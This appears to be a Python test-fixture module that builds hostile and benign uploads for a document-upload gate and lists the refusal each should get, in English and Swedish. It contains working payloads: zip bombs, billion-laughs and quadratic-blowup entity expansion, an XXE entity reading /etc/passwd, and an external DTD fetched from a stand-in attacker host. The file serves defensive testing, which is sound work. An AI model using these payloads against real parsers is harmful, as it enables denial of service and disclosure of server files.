"""Hostile and benign uploads, built at test time, for the gate and every upload endpoint.

``hostile_cases(tmp_dir)`` lists every case; nothing is built until a case's ``data()`` is
called. Run a case against an endpoint when the endpoint accepts one of its ``applies_to``
types (``endpoints_for(case)`` does that for benchdocs' three upload paths). A case with a
``reason`` must be refused for that reason with ``message_fragment`` in a problem's message
(``sv_fragment`` in its Swedish text);
a case without one must not be refused by the file gate (an endpoint may still refuse its
content, reason CONTENT). What each case is and why it is here: tests/hostile/README.md.
"""

from __future__ import annotations

import io
import random
import shutil
import subprocess
import zlib
from collections.abc import Callable
from dataclasses import dataclass, replace
from functools import cache, partial
from pathlib import Path

from service.domain.kinds import DocumentKind
from service.errors import RejectionReason
from service.file_safety.file_inspection import FileType
from service.settings import PROJECT_ROOT, Settings
from tests.hostile.compound_file import compound_file
from tests.hostile.zip_builder import (
    STORED,
    RawMember,
    build_zip,
    members_of,
    packed,
    read_part,
    rebuilt,
)

TEMPLATES = PROJECT_ROOT / "doc_templates"
IMAGES = PROJECT_ROOT / "docs" / "images"
GIB = 1 << 30
ALL = frozenset(FileType)
XLSX = frozenset({FileType.XLSX})
PPTX = frozenset({FileType.PPTX})
CSV = frozenset({FileType.CSV})
# benchdocs' upload paths and what each accepts (checklist, deck, roster).
ENDPOINT_ACCEPTS = {
    "checklist": frozenset({FileType.XLSX}),
    "deck": frozenset({FileType.PPTX}),
    "roster": frozenset({FileType.XLSX, FileType.CSV}),
}


@dataclass(frozen=True)
class HostileCase:
    """One upload, what it is meant to test and the outcome every upload path must give."""

    id: str
    file_name: str
    build: Callable[[], bytes]
    applies_to: frozenset[FileType]
    reason: RejectionReason | None
    message_fragment: str = ""
    # What the Swedish refusal (a participant's default) says, in its words.
    sv_fragment: str = ""
    expected_type: FileType | None = None
    needs_soffice: bool = False

    def data(self) -> bytes:
        """The file's bytes (built now, cached where building is slow)."""
        return self.build()

    def missing_tool(self) -> str | None:
        """Why this case cannot be built on this machine, or None."""
        if self.needs_soffice and shutil.which("soffice") is None:
            return "LibreOffice (soffice) is not installed"
        return None


def endpoints_for(case: HostileCase) -> list[str]:
    """The upload paths (keys of ENDPOINT_ACCEPTS) this case is meant to be sent to."""
    return [name for name, accepts in ENDPOINT_ACCEPTS.items() if accepts & case.applies_to]


# -- building blocks ----------------------------------------------------------------------


def template(name: str) -> bytes:
    """A shipped template's bytes."""
    return (TEMPLATES / name).read_bytes()


def checklist_template() -> bytes:
    return template("checklist.xlsx")


def deck_template() -> bytes:
    return template("deck_benchmarking.pptx")


def with_doctype(xml: bytes, doctype: str) -> bytes:
    """The XML with a DOCTYPE inserted after its declaration (or at its start)."""
    if xml.startswith(b"<?xml"):
        end = xml.index(b"?>") + 2
        return xml[:end] + doctype.encode() + xml[end:]
    return doctype.encode() + xml


def with_text_in_root(xml: bytes, text: str) -> bytes:
    """The XML with text (an entity reference, say) as the root element's first content."""
    start = xml.index(b">", xml.index(b"<worksheet")) + 1
    return xml[:start] + text.encode() + xml[start:]


def edit_content_types(package: bytes, *edits: tuple[str, str]) -> bytes:
    """The package with text replacements applied to its [Content_Types].xml."""
    listing = read_part(package, "[Content_Types].xml").decode()
    for old, new in edits:
        assert old in listing, old
        listing = listing.replace(old, new)
    return rebuilt(package, replace={"[Content_Types].xml": listing.encode()})


def sheet_with_doctype(doctype: str, *, entity: str | None = None) -> bytes:
    """The checklist template with a DOCTYPE (and optionally an entity use) in sheet1."""
    package = checklist_template()
    sheet = read_part(package, "xl/worksheets/sheet1.xml")
    if entity is not None:
        sheet = with_text_in_root(sheet, entity)
    return rebuilt(package, replace={"xl/worksheets/sheet1.xml": with_doctype(sheet, doctype)})


BILLION_LAUGHS = (
    '<!DOCTYPE workbook [<!ENTITY lol "lol">'
    + "".join(
        f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">'
        for i in range(1, 10)
    )
    + "]>"
)
QUADRATIC_BLOWUP = f'<!DOCTYPE worksheet [<!ENTITY a "{"x" * 50_000}">]>'
XXE = '<!DOCTYPE worksheet [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
EXTERNAL_DTD = '<!DOCTYPE worksheet SYSTEM "http://attacker.invalid/evil.dtd">'
MAIN_XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
MAIN_XLSM = "application/vnd.ms-excel.sheet.macroEnabled.main+xml"
MAIN_PPTX = "application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml"
MAIN_PPTM = "application/vnd.ms-powerpoint.presentation.macroEnabled.main+xml"
MAIN_PPSX = "application/vnd.openxmlformats-officedocument.presentationml.slideshow.main+xml"
VBA_TYPE = "application/vnd.ms-office.vbaProject"


def vba_project() -> bytes:
    """Stand-in for a vbaProject.bin: a compound file with the streams a real one has."""
    return compound_file({"PROJECT": b'ID="{00000000}"\r\n', "dir": b"\x01\x00"})


def with_utf16_sheet(*, bom: bool) -> bytes:
    """The checklist with sheet1 re-encoded as UTF-16 and a DOCTYPE in it."""
    package = checklist_template()
    sheet = read_part(package, "xl/worksheets/sheet1.xml").decode("utf-8")
    text = '<?xml version="1.0" encoding="UTF-16"?>' + XXE + sheet
    encoded = text.encode("utf-16") if bom else text.encode("utf-16-le")
    return rebuilt(package, replace={"xl/worksheets/sheet1.xml": encoded})


def zeros_stream(tmp_dir: Path, size: int = 2 * GIB) -> tuple[bytes, int]:
    """``size`` zero bytes deflated (about 2 MB for 2 GiB) and their CRC, cached on disk."""
    cached = tmp_dir / f"zeros-{size}.deflate"
    crc_file = cached.with_suffix(".crc")
    if cached.exists() and crc_file.exists():
        return cached.read_bytes(), int(crc_file.read_text())
    tmp_dir.mkdir(parents=True, exist_ok=True)
    packer = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
    chunk = bytes(1 << 20)
    parts = []
    crc = 0
    for start in range(0, size, len(chunk)):
        piece = chunk[: min(len(chunk), size - start)]
        crc = zlib.crc32(piece, crc)
        parts.append(packer.compress(piece))
    parts.append(packer.flush())
    stream = b"".join(parts)
    cached.write_bytes(stream)
    crc_file.write_text(str(crc))
    return stream, crc


def zeros_bomb(tmp_dir: Path) -> Path:
    """The checklist with sheet1 swapped for 2 GiB of zeros; honest headers, ~2 MB on disk."""
    path = tmp_dir / "bomb-2gib-zeros.xlsx"
    if not path.exists():
        stream, crc = zeros_stream(tmp_dir)
        members = [
            RawMember(m.name, stream, m.method, crc, 2 * GIB)
            if m.name == "xl/worksheets/sheet1.xml"
            else m
            for m in members_of(checklist_template())
        ]
        path.write_bytes(build_zip(members))
    return path


def lying_bomb(tmp_dir: Path) -> Path:
    """A valid checklist plus an 'image' whose headers say 1 kB and whose data is 2 GiB."""
    path = tmp_dir / "bomb-lying-headers.xlsx"
    if not path.exists():
        stream, crc = zeros_stream(tmp_dir)
        liar = RawMember("xl/media/image1.png", stream, 8, crc, 1024)
        path.write_bytes(build_zip([liar, *members_of(checklist_template())]))
    return path


def many_members(count: int) -> bytes:
    """A zip of ``count`` empty members (zip64 end record past 65,535)."""
    return build_zip([packed(f"xl/part{i}.bin", b"", method=STORED) for i in range(count)])


def overlapping_members() -> bytes:
    """Many directory entries sharing one member's data (the Fifield construction's core)."""
    members = members_of(checklist_template())
    big = packed("xl/media/image1.png", bytes(500_000))
    ghosts = [(replace(big, name=f"xl/media/copy{i}.png"), len(members)) for i in range(50)]
    return build_zip([*members, big], ghost_entries=ghosts)


def ratio_bomb() -> bytes:
    """One member of 100 MB zeros (about 1000:1) inside the total cap."""
    content = bytes(100_000_000)
    return rebuilt(checklist_template(), add={"xl/media/image1.png": content})


def many_small_ratio_bombs() -> bytes:
    """200 members of 900 kB zeros each: every one under the ratio grace, the whole 1000:1."""
    payload = packed("x", bytes(900_000))
    extra = [replace(payload, name=f"xl/media/image{i}.png") for i in range(200)]
    return build_zip([*members_of(checklist_template()), *extra])


def nested_zip(*, disguised: bool) -> bytes:
    """The checklist carrying another zip, named as one or disguised as an image."""
    inner = template("checklist.xlsx")
    name = "xl/media/image1.png" if disguised else "xl/media/archive.zip"
    return rebuilt(checklist_template(), add={name: inner})


def embedded_two_levels() -> bytes:
    """A deck whose embedded workbook embeds another workbook."""
    inner = rebuilt(checklist_template(), add={"xl/embeddings/Microsoft_Excel_Sheet1.xlsx": b"PK"})
    return rebuilt(deck_template(), add={"ppt/embeddings/Microsoft_Excel_Sheet9.xlsx": inner})


def corrupted_crc() -> bytes:
    members = members_of(checklist_template())
    broken = [
        replace(m, crc=m.crc ^ 0xFFFFFFFF) if m.name == "xl/workbook.xml" else m for m in members
    ]
    return build_zip(broken)


def encrypted_zip_member() -> bytes:
    members = members_of(checklist_template())
    return build_zip([replace(m, flags=1) if m.name == "xl/workbook.xml" else m for m in members])


def xlsm() -> bytes:
    """A macro-enabled workbook as Excel saves one: VBA project, its content types, its link."""
    package = rebuilt(checklist_template(), add={"xl/vbaProject.bin": vba_project()})
    return edit_content_types(
        package,
        (MAIN_XLSX, MAIN_XLSM),
        (
            '<Default Extension="xml"',
            f'<Default Extension="bin" ContentType="{VBA_TYPE}"/><Default Extension="xml"',
        ),
    )


def pptm() -> bytes:
    package = rebuilt(deck_template(), add={"ppt/vbaProject.bin": vba_project()})
    return edit_content_types(
        package,
        (MAIN_PPTX, MAIN_PPTM),
        (
            "</Types>",
            f'<Override PartName="/ppt/vbaProject.bin" ContentType="{VBA_TYPE}"/></Types>',
        ),
    )


def activex() -> bytes:
    control = (
        b'<ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX" '
        b'ax:classid="{8BD21D40-EC42-11CE-9E0D-00AA006002F3}" ax:persistence="persistStorage"/>'
    )
    package = rebuilt(checklist_template(), add={"xl/activeX/activeX1.xml": control})
    return edit_content_types(
        package,
        (
            "</Types>",
            '<Override PartName="/xl/activeX/activeX1.xml" '
            'ContentType="application/vnd.ms-office.activeX+xml"/></Types>',
        ),
    )


def ole_object() -> bytes:
    packaged = compound_file({"\x01Ole10Native": b"\x00" * 64 + b"payload.exe"})
    return rebuilt(deck_template(), add={"ppt/embeddings/oleObject1.bin": packaged})


def opendocument() -> bytes:
    return build_zip(
        [
            packed("mimetype", b"application/vnd.oasis.opendocument.spreadsheet", method=STORED),
            packed(
                "content.xml",
                b'<office:document-content xmlns:office="urn:oasis:names:tc:'
                b'opendocument:xmlns:office:1.0"/>',
            ),
            packed("META-INF/manifest.xml", b"<manifest/>"),
        ]
    )


def plain_zip() -> bytes:
    return build_zip([packed("readme.txt", b"just some text\n")])


def truncated_xml() -> bytes:
    package = checklist_template()
    sheet = read_part(package, "xl/worksheets/sheet1.xml")
    return rebuilt(package, replace={"xl/worksheets/sheet1.xml": sheet[: len(sheet) // 2]})


def vml_with_doctype() -> bytes:
    vml = b'<!DOCTYPE xml [<!ENTITY x SYSTEM "file:///etc/passwd">]><xml>&x;</xml>'
    return rebuilt(checklist_template(), add={"xl/drawings/vmlDrawing1.vml": vml})


def content_types_with_doctype() -> bytes:
    package = checklist_template()
    listing = read_part(package, "[Content_Types].xml")
    return rebuilt(package, replace={"[Content_Types].xml": with_doctype(listing, XXE)})


def minimal_pdf() -> bytes:
    return (
        b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n"
        b"2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"
    )


def excel_2003_xml() -> bytes:
    return (
        b'<?xml version="1.0"?>\n<?mso-application progid="Excel.Sheet"?>\n'
        b'<Workbook xmlns="urn:schemas-microsoft-com:office:spreadsheet"/>\n'
    )


def over_size_limit() -> bytes:
    """One byte over the default upload limit, starting like a zip."""
    return b"PK\x03\x04" + bytes(Settings().max_upload_bytes - 3)


ROSTER_ROWS = "Organisation;Namn;E-post\nÅre kommun;Åsa Öberg;asa.oberg@are.se\n"


# -- positive cases that need the application or LibreOffice ----------------------------------


@cache
def generated(kind: str) -> bytes:
    """A document as benchdocs generates it for Askersund, Benchmarking 2 (sample programme)."""
    from service.batches.document_maker import DocumentMaker
    from service.batches.template_library import TemplateLibrary
    from service.database import models as m
    from service.intake.sample import SAMPLE_MEETING_REF, find_id, sample_database

    with sample_database() as sessions:
        maker = DocumentMaker(sessions=sessions, templates=TemplateLibrary(TEMPLATES))
        with sessions() as session:
            meeting_id = find_id(session, m.Meeting, SAMPLE_MEETING_REF)
            organisation_id = find_id(session, m.Organisation, "askersund")
        made = maker.make(
            DocumentKind(kind), meeting_id=meeting_id, organisation_id=organisation_id
        )
    data: bytes = made.data
    return data


def deck_with_images() -> bytes:
    """The generated deck plus a slide of screenshots, as participants' decks usually have."""
    from pptx import Presentation
    from pptx.util import Cm

    deck = Presentation(io.BytesIO(generated("deck")))
    slide = deck.slides.add_slide(deck.slide_layouts[len(deck.slide_layouts) - 1])
    for index, image in enumerate(sorted(IMAGES.glob("*.png"))):
        slide.shapes.add_picture(str(image), Cm(1 + 6 * index), Cm(4), width=Cm(6))
    out = io.BytesIO()
    deck.save(out)
    return out.getvalue()


def libreoffice_resaved(tmp_dir: Path, source: bytes, *, suffix: str, to: str) -> bytes:
    """The file (``source.{suffix}``) opened and saved as ``to`` by LibreOffice, cached."""
    work = tmp_dir / f"libreoffice-{suffix}-to-{to}"
    result = work / "out" / f"source.{to}"
    if not result.exists():
        (work / "in").mkdir(parents=True, exist_ok=True)
        (work / "in" / f"source.{suffix}").write_bytes(source)
        soffice = shutil.which("soffice")
        assert soffice is not None
        subprocess.run(
            [
                soffice,
                f"-env:UserInstallation={(tmp_dir / 'libreoffice-profile').as_uri()}",
                "--headless",
                "--convert-to",
                to,
                "--outdir",
                str(work / "out"),
                str(work / "in" / f"source.{suffix}"),
            ],
            check=True,
            capture_output=True,
            timeout=100,
        )
    return result.read_bytes()


# -- the corpus -----------------------------------------------------------------------------


def hostile_cases(tmp_dir: Path) -> list[HostileCase]:
    """Every case; ``tmp_dir`` holds what is slow to build (bombs, LibreOffice output)."""
    wrong = RejectionReason.WRONG_TYPE
    bomb = RejectionReason.ZIP_BOMB
    attack = RejectionReason.XML_ATTACK
    corrupt = RejectionReason.CORRUPT
    macros = RejectionReason.MACROS
    resaved_xlsx = cache(
        lambda: libreoffice_resaved(tmp_dir, generated("checklist"), suffix="xlsx", to="xlsx")
    )
    resaved_pptx = cache(
        lambda: libreoffice_resaved(tmp_dir, generated("deck"), suffix="pptx", to="pptx")
    )
    legacy_xls = cache(
        lambda: libreoffice_resaved(tmp_dir, checklist_template(), suffix="xlsx", to="xls")
    )
    cases = [
        # Not a file at all, or not the right kind of file.
        HostileCase("empty", "checklista.xlsx", lambda: b"", ALL, RejectionReason.EMPTY, "empty"),
        HostileCase("one-byte", "checklista.xlsx", lambda: b"P", ALL, corrupt, "too short"),
        HostileCase(
            "random-bytes-named-xlsx",
            "checklista.xlsx",
            lambda: random.Random(20191128).randbytes(4096),
            ALL,
            wrong,
            "not an Excel workbook",
        ),
        HostileCase(
            "png-named-xlsx",
            "checklista.xlsx",
            lambda: (IMAGES / "checklist-askersund.png").read_bytes(),
            ALL,
            wrong,
            "PNG image",
        ),
        HostileCase("pdf-named-pptx", "presentation.pptx", minimal_pdf, ALL, wrong, "PDF document"),
        HostileCase(
            "html-named-csv",
            "deltagare.csv",
            lambda: b"<!DOCTYPE html>\n<html><body><table><tr><td>Anna</td></tr></table></body>",
            ALL,
            wrong,
            "web page (HTML)",
        ),
        HostileCase(
            "excel-2003-xml-named-xls",
            "checklista.xls",
            excel_2003_xml,
            ALL,
            wrong,
            "Excel 2003 XML spreadsheet",
        ),
        HostileCase(
            "docx-named-xlsx",
            "checklista.xlsx",
            lambda: template("agenda.docx"),
            ALL,
            wrong,
            "Word document",
        ),
        HostileCase(
            "pptx-named-xlsx",
            "checklista.xlsx",
            deck_template,
            ALL,
            wrong,
            "PowerPoint presentation",
        ),
        HostileCase(
            "xlsx-named-pptx",
            "presentation.pptx",
            checklist_template,
            ALL,
            wrong,
            "Excel workbook",
        ),
        HostileCase(
            "slideshow-ppsx",
            "presentation.ppsx",
            lambda: edit_content_types(deck_template(), (MAIN_PPTX, MAIN_PPSX)),
            ALL,
            wrong,
            "slide show",
        ),
        HostileCase(
            "opendocument-named-xlsx",
            "checklista.xlsx",
            opendocument,
            ALL,
            wrong,
            "OpenDocument spreadsheet",
        ),
        HostileCase(
            "plain-zip-named-xlsx", "checklista.xlsx", plain_zip, ALL, wrong, "ZIP archive"
        ),
        HostileCase(
            "legacy-xls",
            "checklista.xls",
            lambda: compound_file(
                {
                    "Workbook": b"\x09\x08\x10\x00\x00\x06\x05\x00",
                    "\x05SummaryInformation": b"\xfe\xff",
                }
            ),
            ALL,
            wrong,
            "Excel 97-2003",
        ),
        HostileCase(
            "legacy-xls-from-libreoffice",
            "checklista.xls",
            legacy_xls,
            ALL,
            wrong,
            "Excel 97-2003",
            needs_soffice=True,
        ),
        HostileCase(
            "legacy-ppt",
            "presentation.ppt",
            lambda: compound_file({"PowerPoint Document": b"\x00" * 16, "Current User": b"\x00"}),
            ALL,
            wrong,
            "PowerPoint 97-2003",
        ),
        HostileCase(
            "encrypted-ooxml",
            "checklista.xlsx",
            lambda: compound_file(
                {
                    "EncryptionInfo": b"\x04\x00\x04\x00\x40\x00\x00\x00",
                    "EncryptedPackage": random.Random(7).randbytes(6000),
                }
            ),
            ALL,
            RejectionReason.ENCRYPTED,
            "password-protected",
        ),
        HostileCase(
            "encrypted-zip-member",
            "checklista.xlsx",
            encrypted_zip_member,
            ALL,
            RejectionReason.ENCRYPTED,
            "encrypted",
        ),
        # Code that could run when an organiser opens the file.
        HostileCase("xlsm-with-vba", "checklista.xlsm", xlsm, XLSX, macros, "xl/vbaProject.bin"),
        HostileCase("pptm-with-vba", "presentation.pptm", pptm, PPTX, macros, "ppt/vbaProject.bin"),
        HostileCase(
            "xlsm-renamed-xlsx",
            "checklista.xlsx",
            lambda: edit_content_types(checklist_template(), (MAIN_XLSX, MAIN_XLSM)),
            XLSX,
            macros,
            "macro-enabled workbook",
        ),
        HostileCase("activex-control", "checklista.xlsx", activex, XLSX, macros, "ActiveX"),
        HostileCase("ole-object", "presentation.pptx", ole_object, PPTX, macros, "embedded object"),
        # Damaged zips.
        HostileCase(
            "truncated-zip",
            "checklista.xlsx",
            lambda: checklist_template()[: len(checklist_template()) // 2],
            ALL,
            corrupt,
            "damaged or incomplete",
        ),
        HostileCase("corrupted-crc", "checklista.xlsx", corrupted_crc, ALL, corrupt, "CRC error"),
        HostileCase(
            "malformed-xml-part",
            "checklista.xlsx",
            truncated_xml,
            ALL,
            corrupt,
            "xl/worksheets/sheet1.xml is not well-formed",
        ),
        # Zip bombs.
        HostileCase(
            "100000-empty-members",
            "checklista.xlsx",
            lambda: many_members(100_000),
            ALL,
            bomb,
            "100,000 parts",
        ),
        HostileCase(
            "zeros-bomb-2gib",
            "checklista.xlsx",
            lambda: zeros_bomb(tmp_dir).read_bytes(),
            ALL,
            bomb,
            "would unpack to 2,147.5 MB",
        ),
        HostileCase(
            "lying-header-bomb",
            "checklista.xlsx",
            lambda: lying_bomb(tmp_dir).read_bytes(),
            ALL,
            bomb,
            "lying headers",
        ),
        HostileCase(
            "member-ratio-bomb",
            "checklista.xlsx",
            ratio_bomb,
            ALL,
            bomb,
            "xl/media/image1.png is compressed",
        ),
        HostileCase(
            "overall-ratio-bomb",
            "checklista.xlsx",
            many_small_ratio_bombs,
            ALL,
            bomb,
            "the file is compressed",
        ),
        HostileCase(
            "overlapping-members",
            "checklista.xlsx",
            overlapping_members,
            ALL,
            bomb,
            "overlapping members",
        ),
        HostileCase(
            "nested-zip",
            "checklista.xlsx",
            lambda: nested_zip(disguised=False),
            ALL,
            bomb,
            "another archive",
        ),
        HostileCase(
            "nested-zip-disguised",
            "checklista.xlsx",
            lambda: nested_zip(disguised=True),
            ALL,
            bomb,
            "another archive",
        ),
        HostileCase(
            "embedded-two-levels",
            "presentation.pptx",
            embedded_two_levels,
            ALL,
            bomb,
            "one level",
        ),
        # XML attacks (every one needs a DTD).
        HostileCase(
            "billion-laughs",
            "checklista.xlsx",
            lambda: rebuilt(
                checklist_template(),
                replace={
                    "xl/workbook.xml": with_doctype(
                        read_part(checklist_template(), "xl/workbook.xml"), BILLION_LAUGHS
                    )
                },
            ),
            ALL,
            attack,
            "xl/workbook.xml contains a document type declaration",
        ),
        HostileCase(
            "quadratic-blowup",
            "checklista.xlsx",
            lambda: sheet_with_doctype(QUADRATIC_BLOWUP, entity="&a;" * 1000),
            ALL,
            attack,
            "DOCTYPE",
        ),
        HostileCase(
            "xxe-file-etc-passwd",
            "checklista.xlsx",
            lambda: sheet_with_doctype(XXE, entity="&xxe;"),
            ALL,
            attack,
            "xl/worksheets/sheet1.xml",
        ),
        HostileCase(
            "external-dtd",
            "checklista.xlsx",
            lambda: sheet_with_doctype(EXTERNAL_DTD),
            ALL,
            attack,
            "DOCTYPE",
        ),
        HostileCase(
            "utf16-doctype",
            "checklista.xlsx",
            lambda: with_utf16_sheet(bom=True),
            ALL,
            attack,
            "DOCTYPE",
        ),
        HostileCase(
            "utf16-doctype-without-bom",
            "checklista.xlsx",
            lambda: with_utf16_sheet(bom=False),
            ALL,
            attack,
            "DOCTYPE",
        ),
        HostileCase(
            "doctype-in-content-types",
            "checklista.xlsx",
            content_types_with_doctype,
            ALL,
            attack,
            "[Content_Types].xml",
        ),
        HostileCase(
            "doctype-in-vml",
            "checklista.xlsx",
            vml_with_doctype,
            ALL,
            attack,
            "xl/drawings/vmlDrawing1.vml",
        ),
        # CSV that is not text, or not a table.
        HostileCase(
            "csv-with-nul",
            "deltagare.csv",
            lambda: ROSTER_ROWS.encode() + b"\x00\x00\n",
            CSV,
            corrupt,
            "NUL bytes",
        ),
        HostileCase(
            "csv-utf16-without-bom",
            "deltagare.csv",
            lambda: ROSTER_ROWS.encode("utf-16-le"),
            CSV,
            corrupt,
            "UTF-16",
        ),
        HostileCase(
            "csv-control-character",
            "deltagare.csv",
            lambda: ROSTER_ROWS.encode() + b"Anna\x01;x;y\n",
            CSV,
            corrupt,
            "U+0001",
        ),
        HostileCase(
            "csv-not-windows-1252",
            "deltagare.csv",
            lambda: b"Namn\x81;\xe5\n",
            CSV,
            corrupt,
            "Windows-1252",
        ),
        HostileCase(
            "csv-10mb-single-line",
            "deltagare.csv",
            lambda: b"a;" * 5_000_000,
            CSV,
            RejectionReason.CONTENT,
            "line 1 is longer than",
        ),
        HostileCase(
            "csv-too-many-lines",
            "deltagare.csv",
            lambda: b"a\n" * 100_001,
            CSV,
            RejectionReason.CONTENT,
            "more than 100,000 lines",
        ),
        HostileCase(
            "over-size-limit",
            "checklista.xlsx",
            over_size_limit,
            ALL,
            RejectionReason.TOO_LARGE,
            "more than the upload limit of 50 MB",
        ),
        # Files that must pass: what benchdocs ships and makes, and what people save.
        *[
            HostileCase(
                f"template-{name}",
                name,
                partial(template, name),
                frozenset({kind}),
                None,
                expected_type=kind,
            )
            for name, kind in (
                ("checklist.xlsx", FileType.XLSX),
                ("deck_benchmarking.pptx", FileType.PPTX),
                ("organiser_checklist.pptx", FileType.PPTX),
            )
        ],
        HostileCase(
            "generated-checklist",
            "Checklista Askersunds kommun.xlsx",
            lambda: generated("checklist"),
            XLSX,
            None,
            expected_type=FileType.XLSX,
        ),
        HostileCase(
            "generated-deck-with-embedded-workbook",
            "Askersunds kommun.pptx",
            lambda: generated("deck"),
            PPTX,
            None,
            expected_type=FileType.PPTX,
        ),
        HostileCase(
            "deck-with-images",
            "Askersund – vår presentation 🎉.pptx",
            deck_with_images,
            PPTX,
            None,
            expected_type=FileType.PPTX,
        ),
        HostileCase(
            "libreoffice-resaved-xlsx",
            "checklista.xlsx",
            resaved_xlsx,
            XLSX,
            None,
            expected_type=FileType.XLSX,
            needs_soffice=True,
        ),
        HostileCase(
            "libreoffice-resaved-pptx",
            "presentation.pptx",
            resaved_pptx,
            PPTX,
            None,
            expected_type=FileType.PPTX,
            needs_soffice=True,
        ),
        HostileCase(
            "csv-utf8-bom",
            "deltagare.csv",
            lambda: b"\xef\xbb\xbf" + ROSTER_ROWS.encode(),
            CSV,
            None,
            expected_type=FileType.CSV,
        ),
        HostileCase(
            "csv-aao-and-emoji",
            "deltagare.csv",
            lambda: (ROSTER_ROWS + "Örebro kommun;Zoë 🌻 Ängström;zoe@orebro.se\r\n").encode(),
            CSV,
            None,
            expected_type=FileType.CSV,
        ),
        HostileCase(
            "csv-semicolons-windows-1252",
            "deltagare.csv",
            lambda: ROSTER_ROWS.replace("\n", "\r\n").encode("cp1252"),
            CSV,
            None,
            expected_type=FileType.CSV,
        ),
        HostileCase(
            "csv-utf16-with-bom",
            "deltagare.txt",
            lambda: ROSTER_ROWS.replace(";", "\t").encode("utf-16"),
            CSV,
            None,
            expected_type=FileType.CSV,
        ),
    ]
    return [replace(case, sv_fragment=SWEDISH.get(case.id, "")) for case in cases]


# What each refusal says in Swedish: the problem in the participant's words (a type's Swedish
# name, the part or line), never a phrase the English text also has.
SWEDISH = {
    "empty": "Filen är tom",
    "one-byte": "för kort för att vara en Excel-arbetsbok",
    "random-bytes-named-xlsx": "inte en Excel-arbetsbok",
    "png-named-xlsx": "en PNG-bild",
    "pdf-named-pptx": "ett PDF-dokument",
    "html-named-csv": "en webbsida (HTML)",
    "excel-2003-xml-named-xls": "ett Excel 2003 XML-kalkylblad",
    "docx-named-xlsx": "ett Word-dokument (.docx)",
    "pptx-named-xlsx": "en PowerPoint-presentation (.pptx)",
    "xlsx-named-pptx": "en Excel-arbetsbok (.xlsx)",
    "slideshow-ppsx": "ett PowerPoint-bildspel (.ppsx)",
    "opendocument-named-xlsx": "ett OpenDocument-kalkylblad (.ods)",
    "plain-zip-named-xlsx": "ett ZIP-arkiv",
    "legacy-xls": "en Excel 97–2003-arbetsbok (.xls)",
    "legacy-xls-from-libreoffice": "en Excel 97–2003-arbetsbok (.xls)",
    "legacy-ppt": "en PowerPoint 97–2003-presentation (.ppt)",
    "encrypted-ooxml": "Filen är lösenordsskyddad",
    "encrypted-zip-member": "Delen xl/workbook.xml är krypterad",
    "xlsm-with-vba": "makrona finns i xl/vbaProject.bin",
    "pptm-with-vba": "makrona finns i ppt/vbaProject.bin",
    "xlsm-renamed-xlsx": "en makroaktiverad Excel-arbetsbok (.xlsm)",
    "activex-control": "ActiveX-kontroller (xl/activeX/activeX1.xml)",
    "ole-object": "ett inbäddat objekt (ppt/embeddings/oleObject1.bin)",
    "truncated-zip": "Filen är skadad eller ofullständig",
    "corrupted-crc": "har fel kontrollsumma (CRC-fel)",
    "malformed-xml-part": "Delen xl/worksheets/sheet1.xml är inte korrekt XML",
    "100000-empty-members": "Filen har 100\u00a0000 delar",
    "zeros-bomb-2gib": "skulle packas upp till 2\u00a0147,5 MB",
    "lying-header-bomb": "falska storlekar",
    "member-ratio-bomb": "Delen xl/media/image1.png är komprimerad",
    "overall-ratio-bomb": "Filen är komprimerad",
    "overlapping-members": "överlappande delar",
    "nested-zip": "ett annat arkiv (xl/media/archive.zip)",
    "nested-zip-disguised": "ett annat arkiv (xl/media/image1.png)",
    "embedded-two-levels": "bara en nivå av inbäddning",
    "billion-laughs": "Delen xl/workbook.xml innehåller en dokumenttypdeklaration",
    "quadratic-blowup": "innehåller en dokumenttypdeklaration (DOCTYPE",
    "xxe-file-etc-passwd": "Delen xl/worksheets/sheet1.xml innehåller",
    "external-dtd": "innehåller en dokumenttypdeklaration (DOCTYPE",
    "utf16-doctype": "innehåller en dokumenttypdeklaration (DOCTYPE",
    "utf16-doctype-without-bom": "innehåller en dokumenttypdeklaration (DOCTYPE",
    "doctype-in-content-types": "Delen [Content_Types].xml innehåller",
    "doctype-in-vml": "Delen xl/drawings/vmlDrawing1.vml innehåller",
    "csv-with-nul": "innehåller NUL-tecken",
    "csv-utf16-without-bom": "UTF-16-text utan byteordningsmärke",
    "csv-control-character": "Rad 3 innehåller styrtecknet U+0001",
    "csv-not-windows-1252": "kan inte läsas som UTF-8 eller Windows-1252",
    "csv-10mb-single-line": "Rad 1 är längre än 65\u00a0536 tecken",
    "csv-too-many-lines": "fler än 100\u00a0000 rader",
    "over-size-limit": "gränsen för uppladdning på 50 MB",
}
